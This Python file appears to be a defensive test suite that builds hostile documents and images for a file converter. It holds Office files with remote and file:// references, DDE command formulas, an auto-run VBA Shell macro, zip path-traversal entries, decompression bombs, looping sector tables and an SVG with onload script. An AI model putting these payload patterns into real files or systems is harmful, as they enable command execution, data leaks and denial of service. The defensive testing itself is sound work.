def a_text_whose_parts_lie_elsewhere(address: str, secret: str) -> bytes:
    """Pictures, objects, texts, letters and templates by http, from a share of another machine, and from this one."""
    places = (f"http://{address}/a", f"https://{address}/a", f"\\\\{address}\\share\\a", f"file://{secret}", secret)
    kinds = ("image", "oleObject", "aFChunk", "attachedTemplate", "hyperlink", "subDocument", "frame", "font", "video")
    related = [
        office_files.relation(f"k{number}p{place}", kind, target, outside=True)
        for number, kind in enumerate(kinds)
        for place, target in enumerate(places)
    ]
    body = "".join(office_files.linked_picture(f"k0p{place}") for place in range(len(places)))
    body += "".join(f'<w:altChunk r:id="k2p{place}"/><w:subDoc r:id="k5p{place}"/>' for place in range(len(places)))
    for words in (
        f'INCLUDEPICTURE "http://{address}/i.png" \\d',
        f'INCLUDETEXT "{secret}"',
        f'DDEAUTO c "{address}" "x"',
    ):
        quoted = words.replace('"', "&quot;")
        body += f'<w:p><w:fldSimple w:instr="{quoted}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    return office_files.docx(LINE, body=body, related=tuple(related))


@hostile("pages", "not_converted", needs_office=True, is_slow=True)
def a_workbook_whose_cells_lie_elsewhere(address: str, secret: str) -> bytes:
    made = office_files.xlsx(LINE)
    sheet = part(made, "xl/worksheets/sheet1.xml")
    cells = "".join(
        f'<row r="{row}"><c r="A{row}"><f>{formula.replace(chr(34), "&quot;")}</f></c></row>'
        for row, formula in enumerate(
            (
                f'WEBSERVICE("http://{address}/w")',
                f'IMAGE("http://{address}/i.png")',
                f"'http://{address}/[a.xlsx]S'!A1",
                f"'file://{secret}'#$S.A1",
                "[1]S!A1",
                "cmd|'/c touch launched'!A1",
                f'HYPERLINK("file://{secret}")',
            ),
            start=2,
        )
    )
    linked = (
        f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        f'xmlns:r="{office_files.OFFICE}/relationships" r:id="r1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    )
    row = office_files.relation("r1", "externalLinkPath", f"http://{address}/a.xlsx", outside=True)
    return repacked(
        made,
        **{
            "xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", cells.encode() + b"</sheetData>"),
            "xl/externalLinks/externalLink1.xml": linked.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": office_files.relations(row).encode(),
        },
    )


@hostile("pages", "not_converted", needs_office=True, is_slow=True)
def slides_whose_pictures_and_films_lie_elsewhere(address: str) -> bytes:
    made = office_files.pptx(LINE)
    rows = [
        office_files.relation(f"r{number}", kind, f"http://{address}/{kind}", outside=True)
        for number, kind in enumerate(("image", "video", "audio", "media", "oleObject", "slideLayout"), start=2)
    ]
    picture = (
        "<p:pic><p:nvPicPr><p:cNvPr id='9' name='p'/><p:cNvPicPr/><p:nvPr><a:videoFile r:link='r3'/></p:nvPr></p:nvPicPr>"
        "<p:blipFill><a:blip r:link='r2'/></p:blipFill><p:spPr><a:xfrm><a:off x='0' y='0'/><a:ext cx='900000' cy='900000'/>"
        "</a:xfrm><a:prstGeom prst='rect'/></p:spPr></p:pic></p:spTree>"
    )
    slide = part(made, "ppt/slides/slide1.xml").replace(b"</p:spTree>", picture.encode())
    related = office_files.relations(*rows).encode()
    return repacked(made, **{"ppt/slides/slide1.xml": slide, "ppt/slides/_rels/slide1.xml.rels": related})


@hostile("pages", "not_converted", needs_office=True, is_slow=True)
def a_text_with_macros_and_programs_inside() -> bytes:
    inside = {
        "word/vbaProject.bin": office_files.ole("VBA", "PROJECT") + b'Sub AutoOpen() Shell("touch launched") End Sub',
        "word/embeddings/oleObject1.bin": office_files.ole("\x01Ole10Native") + b"MZ" + bytes(500),
        "word/embeddings/paper.docx": office_files.docx(LINE),
    }
    related = (
        '<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
        office_files.relation("o", "oleObject", "embeddings/oleObject1.bin"),
        office_files.relation("p", "package", "embeddings/paper.docx"),
    )
    body = (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
        'ProgID="Package" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="o"/></w:object></w:r></w:p>'
    )
    return office_files.docx(LINE, main=office_files.WITH_MACROS, body=body, related=related, **inside)


@hostile("pages", "not_converted", needs_office=True)
def a_text_of_which_parts_would_lie_outside() -> bytes:
    """Whoever unpacks it by its names writes beside the folder, over a link, or to the root."""
    made = io.BytesIO(
        office_files.docx(
            LINE, **{f"{way}escaped": b"out" for way in ("../" * 9, "/", "..\\..\\", "C:\\", "word/../../")}
        )
    )
    with zipfile.ZipFile(made, "a") as package:
        link = zipfile.ZipInfo("word/media")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/")
    return made.getvalue()


@hostile("unpacks_too_large", is_slow=True)
def a_text_that_unpacks_to_too_much() -> bytes:
    return office_files.zip_bomb()


@hostile("broken", "unpacks_too_large")
def a_text_whose_entries_are_all_the_same_bytes() -> bytes:
    """Thousands of names for one large entry: what a list of a zip says may overlap."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", office_files.content_types(**{"word/document.xml": office_files.WORD}))
        package.writestr("word/document.xml", bytes(3 << 20))
        first = package.getinfo("word/document.xml")
        for number in range(4000):
            again = zipfile.ZipInfo(f"word/{number}.xml")
            for name in ("header_offset", "compress_type", "CRC", "compress_size", "file_size", "flag_bits"):
                setattr(again, name, getattr(first, name))
            package.filelist.append(again)
            package.NameToInfo[again.filename] = again
    return buffer.getvalue()


@hostile("unpacks_too_large", is_slow=True)
def a_text_of_twenty_thousand_parts() -> bytes:
    return office_files.docx(LINE, **{f"word/{number}": b"" for number in range(20_000)})


@hostile("archive")
def an_archive_in_an_archive_in_an_archive() -> bytes:
    made = office_files.docx(LINE)
    for _time in range(3):
        made = office_files.zipped({"a.zip": made})
    return made


@hostile("encrypted")
def a_text_whose_parts_are_locked_one_by_one() -> bytes:
    made = bytearray(office_files.docx(LINE))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := made.find(mark, at + 1)) >= 0:
            made[at + offset] |= 1
    return bytes(made)


@hostile("encrypted")
def a_locked_text() -> bytes:
    return office_files.ole("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces")


@hostile("not_converted", needs_office=True, is_slow=True)
def an_old_locked_workbook() -> bytes:
    """BIFF8: it begins, and then says that whatever follows is locked with RC4."""
    begin = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 0x0DBB, 0x07CC, 0, 6)
    locked = struct.pack("<HHHHH", 0x002F, 54, 1, 1, 1) + bytes(range(48))
    return office_files.ole_with("Workbook", begin + locked + random.Random(1).randbytes(5000))


@hostile("not_converted", "encrypted", needs_office=True, is_slow=True)
def an_old_locked_text() -> bytes:
    head = bytearray(random.Random(2).randbytes(6000))
    head[:12] = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0, 0x0100 | 0x0200)  # fEncrypted
    return office_files.ole_with("WordDocument", bytes(head))


@hostile("not_converted", "pages", needs_office=True, is_slow=True)
def old_slides_of_noise() -> bytes:
    return office_files.ole_with("PowerPoint Document", random.Random(3).randbytes(9000))


@hostile("not_converted", "too_slow", "too_much_memory", needs_office=True, is_slow=True)
def an_old_text_whose_chain_of_sectors_goes_round() -> bytes:
    made = bytearray(office_files.ole("WordDocument"))
    made[512 + 4 : 512 + 8] = struct.pack("<I", 1)  # the table says that the list of names follows itself
    made[48:52] = struct.pack("<I", 1)
    return bytes(made)


@hostile("not_converted", "too_slow", "too_much_memory", needs_office=True, is_slow=True)
def an_old_text_whose_table_of_sectors_goes_round() -> bytes:
    made = bytearray(office_files.ole("WordDocument"))
    made[68:72] = struct.pack("<I", 1)
    made[1024 + 508 : 1024 + 512] = struct.pack("<I", 1)
    return bytes(made)


# -- Pictures ----------------------------------------------------------------------------------------------------------


def png(width: int, height: int, bits: int, colour: int, data: bytes, *more: tuple[bytes, bytes]) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    rows = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)),
        *more,
        (b"IDAT", data),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*row) for row in rows)


@hostile("too_many_pixels")
def a_png_of_ten_thousand_million_pixels() -> bytes:
    return office_files.png_bomb()


@hostile("pages", "too_slow", is_slow=True)
def a_png_of_as_many_pixels_as_are_taken() -> bytes:
    """A hundred kilobytes, 100 million pixels: large, and still a paper."""
    return png(10_000, 10_000, 8, 2, expanding(bytes(30_001) * 100, 100))


@hostile("pages", "broken")
def a_png_whose_note_unpacks_to_half_a_gigabyte() -> bytes:
    note = b"a\0\0" + expanding(MEGABYTE, 512)
    return png(
        8, 8, 8, 0, zlib.compress(bytes(72)), (b"zTXt", note), (b"iCCP", note), (b"iTXt", b"a\0\1\0\0\0" + note[3:])
    )


@hostile("pages", "broken", is_slow=True)
def a_png_with_more_rows_than_it_has() -> bytes:
    return png(8, 8, 8, 0, expanding(MEGABYTE, 256))


@hostile("broken", "unreadable")
def a_png_without_pixels() -> bytes:
    return png(0, 0, 8, 2, b"")


@hostile("pages", "broken")
def half_a_png() -> bytes:
    return cut(office_files.picture("PNG"), 50)


@hostile("pages", "broken")
def half_a_jpeg() -> bytes:
    return cut(office_files.picture("JPEG"), 50)


@hostile("pages", "broken", "not_paper")
def half_a_tiff() -> bytes:
    return cut(office_files.picture("TIFF", pages=3), 50)


@hostile("pages", "broken")
def half_a_tiff_whose_head_is_whole() -> bytes:
    return cut(office_files.picture("TIFF", compression="tiff_lzw"), 70)


@hostile("too_many_pixels")
def a_jpeg_of_four_thousand_million_pixels() -> bytes:
    made = bytearray(office_files.picture("JPEG", (8, 8)))
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = b"\xff\xdc\xff\xdc"
    return bytes(made)


@hostile("pages", "broken", "too_slow", is_slow=True)
def a_jpeg_of_as_many_pixels_as_are_taken() -> bytes:
    made = bytearray(office_files.picture("JPEG", (8, 8)))
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", 10_000, 10_000)
    return bytes(made)


@hostile("pages", "broken", "too_slow")
def a_jpeg_that_is_read_over_and_over() -> bytes:
    """A progressive picture whose last layer comes ten thousand times."""
    made = office_files.picture("JPEG", (64, 64), progressive=True)
    at = made.rindex(b"\xff\xda")
    return made[:at] + made[at:-2] * 10_000 + b"\xff\xd9"


@hostile("too_many_pixels")
def a_tiff_of_ten_thousand_million_pixels() -> bytes:
    return tiff(1, width=100_000, height=100_000)


@hostile("too_many_pages", "too_slow", is_slow=True)
def a_tiff_of_twenty_thousand_pages() -> bytes:
    return tiff(20_000)


@hostile("too_many_pages")
def a_tiff_of_four_thousand_pages() -> bytes:
    return tiff(4000)


@hostile("pages", "broken")
def a_tiff_whose_pages_go_round() -> bytes:
    return tiff(3, last=8)


@hostile("pages", "broken", "too_many_pages")
def a_tiff_that_unpacks_to_a_gigabyte() -> bytes:
    return tiff(1, compression=8, content=expanding(MEGABYTE, 1024))


def tiff(
    pages: int, *, width: int = 8, height: int = 8, last: int = 0, compression: int = 1, content: bytes = bytes(64)
) -> bytes:
    """A grey picture on so many pages, which all lie at one place; after the last comes the page at `last`."""
    size = 2 + 12 * 8 + 4
    start = 8 + pages * size
    made = bytearray(struct.pack("<2sHI", b"II", 42, 8))
    for page in range(pages):
        tags = (
            *((256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, compression), (262, 3, 1)),
            *((273, 4, start), (278, 4, height), (279, 4, len(content))),
        )
        made += struct.pack("<H", len(tags)) + b"".join(
            struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags
        )
        made += struct.pack("<I", 8 + (page + 1) * size if page < pages - 1 else last)
    return bytes(made) + content


@hostile("pages")
def a_jpeg_in_print_colours() -> bytes:
    return office_files.picture("JPEG", (200, 280), mode="CMYK")


@hostile("pages")
def a_png_that_moves() -> bytes:
    return office_files.picture("PNG", (80, 80), pages=3)


@hostile("pages", "broken")
def a_png_full_of_notes() -> bytes:
    info, buffer = PngImagePlugin.PngInfo(), io.BytesIO()
    for number in range(2000):
        info.add_text(f"k{number}", "x" * 1000, zip=True)
    Image.new("L", (8, 8)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


@hostile("not_paper")
def a_drawing_that_is_called_a_picture(address: str) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="http://{address}/a"/><script>1</script></svg>'
    ).encode()


@hostile("not_paper")
def a_gif_that_moves() -> bytes:
    return office_files.picture("GIF", (80, 80), pages=3, mode="P")


# -- Files bent by chance ----------------------------------------------------------------------------------------------


def bent(content: bytes, chance: random.Random) -> bytes:
    """A good file with some bytes flipped, cut out, exchanged, written over or doubled."""
    made = bytearray(content)
    for _time in range(chance.choice((1, 1, 2, 5, 30))):
        bend = chance.choice((flip, take_out, exchange, write_over, double, end_early))
        bend(made, chance)
    return bytes(made)


def somewhere(made: bytearray, chance: random.Random, most: int = 400) -> slice:
    start = chance.randrange(len(made) + 1)
    return slice(start, start + chance.randrange(1, most))


def flip(made: bytearray, chance: random.Random) -> None:
    for _time in range(chance.randrange(1, 20)):
        if made:
            made[chance.randrange(len(made))] ^= 1 << chance.randrange(8)


def take_out(made: bytearray, chance: random.Random) -> None:
    del made[somewhere(made, chance)]


def exchange(made: bytearray, chance: random.Random) -> None:
    one, other = somewhere(made, chance), somewhere(made, chance)
    made[one], made[other] = made[other], made[one]


def write_over(made: bytearray, chance: random.Random) -> None:
    place = somewhere(made, chance, 40)
    made[place] = chance.choice((b"\0", b"\xff", b"9", b"-", b"\x80")) * len(made[place])


def double(made: bytearray, chance: random.Random) -> None:
    place = somewhere(made, chance, 4000)
    made[place.start : place.start] = made[place] * chance.choice((1, 1, 50))


def end_early(made: bytearray, chance: random.Random) -> None:
    if chance.random() < 0.3:
        del made[chance.randrange(len(made) + 1) :]
